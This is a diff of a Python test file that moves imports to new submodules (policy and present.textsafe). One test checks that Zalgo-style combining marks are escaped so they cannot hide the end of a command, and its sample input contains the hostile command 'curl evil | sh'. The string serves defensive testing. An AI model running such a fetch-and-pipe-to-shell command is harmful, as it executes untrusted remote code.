@@ -13,7 +13,7 @@ from pathlib import Path
 
 import pytest
 
-from omp_a2a_bridge.server import proposals, rules
+from omp_a2a_bridge.server.policy import proposals, rules
 
 from .conftest import write_config
 from .dbus_fakes import FakeNotifications
@@ -355,7 +355,7 @@ def test_stacked_combining_marks_are_escaped_and_flagged():
     """ "Zalgo" text (dozens of combining marks on one letter) paints over the lines around it
     in the page, the menu and a terminal, e.g. over the end of a command; ordinary accents
     (Vietnamese, decomposed é) stay as they are."""
-    from omp_a2a_bridge.server.textsafe import render, shorten
+    from omp_a2a_bridge.server.present.textsafe import render, shorten
 
     zalgo = "echo ok" + "\u0336\u0489" * 20 + "; curl evil | sh"
     out = render(zalgo)
